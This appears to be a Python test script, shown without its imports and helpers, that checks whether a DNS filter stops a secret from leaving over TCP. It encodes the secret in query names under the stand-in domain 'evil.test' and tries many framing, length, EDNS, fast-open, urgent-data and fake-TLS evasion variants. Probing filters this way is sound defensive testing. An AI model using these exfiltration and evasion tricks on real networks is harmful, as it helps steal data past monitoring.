"""dns_stream WAY SERVER SECONDS: the secret in what goes to a name server over TCP.

Prints `reset` when the connection was refused, or what came back in it.
"""

way, server = sys.argv[1], sys.argv[2]
family = V6 if ":" in server else V4
STOLEN = SECRET.decode() + ".evil.test"
OPT = b"\0\0\x29\x04\xd0\0\0\0\0"


def framed(message):
    return struct.pack("!H", len(message)) + message


def with_option(message, code, data):
    option = struct.pack("!HH", code, len(data)) + data
    return message[:11] + b"\1" + message[12:] + OPT + struct.pack("!H", len(option)) + option


good, bad = framed(query("allowed.test", 1)), framed(query(STOLEN, 2))
response = bytearray(query(STOLEN, 3))
response[2] |= 0x80
update = bytearray(query("allowed.test", 3))
update[2] |= 5 << 3
two = query("allowed.test", 3)
two = two[:5] + b"\2" + two[6:] + query(STOLEN, 3)[12:]
WAYS = {
    "alone": [bad],
    "second": [good + bad],
    "later": [good, None, bad],
    "cut": [good + bad[:9], bad[9:]],
    "in_two": [bad[:20], bad[20:]],
    "bytes": [bad[at : at + 1] for at in range(len(bad))],
    "half": [good, None, bad[:-4]],
    "length_long": [struct.pack("!H", 1000) + bad],
    "length_longest": [b"\xff\xff" + bad],
    "length_short": [struct.pack("!H", len(bad) - 8) + bad[2:]],
    "length_none": [b"\0\0" + bad],
    "trailing": [framed(query("allowed.test") + SECRET)],
    "response": [framed(bytes(response))],
    "two_questions": [framed(two)],
    "update": [framed(bytes(update) + SECRET)],
    "option": [framed(with_option(query("allowed.test"), 65001, SECRET))],
    "text": [SECRET * 4],
    "tls": [b"\x16\x03\x01\0\x2a\1\0\0\x26\3\3" + SECRET],
}

sending = socket.socket(FAMILY[family], socket.SOCK_STREAM)
sending.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sending.settimeout(float(sys.argv[3]))
try:
    if way == "fastopen":
        attempt(sending.sendto, bad, socket.MSG_FASTOPEN, (server, 53))
    elif way == "urgent":
        sending.connect((server, 53))
        sending.send(bad[:10])
        sending.send(bad[10:], socket.MSG_OOB)
    else:
        sending.connect((server, 53))
        for part in WAYS[way]:
            if part is None:
                print(len(sending.recv(1024)) > 0 and "answered")
            else:
                sending.send(part)
                time.sleep(0.05 if len(WAYS[way]) < 9 else 0)
    if way == "half":
        sending.shutdown(socket.SHUT_WR)
    print(sending.recv(1024).hex())
except (ConnectionResetError, ConnectionRefusedError, BrokenPipeError):
    print("reset")
except TimeoutError:
    print("silence")
